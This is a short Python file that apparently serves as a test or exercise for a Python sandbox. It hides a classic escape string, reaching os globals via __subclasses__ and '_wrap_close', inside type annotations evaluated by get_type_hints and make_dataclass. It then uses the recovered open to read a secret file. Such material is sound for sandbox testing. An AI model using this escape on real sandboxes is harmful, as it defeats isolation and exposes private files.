# tries = "has texts evaluated: by get_type_hints, ForwardRef, namedtuple, make_dataclass and Enum"
# exercise = "which-was-it"

import collections
import dataclasses
import typing

CODE = "[each for each in ().__class__.__base__.__subclasses__() if each.__name__ == '_wrap_close'][0].__init__.__globals__"


class Hinted:
    value: CODE


def customer(bell, patience):
    Hinted.__annotations__["value"] = CODE
    space = typing.get_type_hints(Hinted)["value"]
    made = dataclasses.make_dataclass("Made", [("value", CODE, dataclasses.field(default=1))])
    pair = collections.namedtuple("Pair", "a b", module="os")
    raise ValueError(space["open"]("@HOME@/secret.txt", 0))
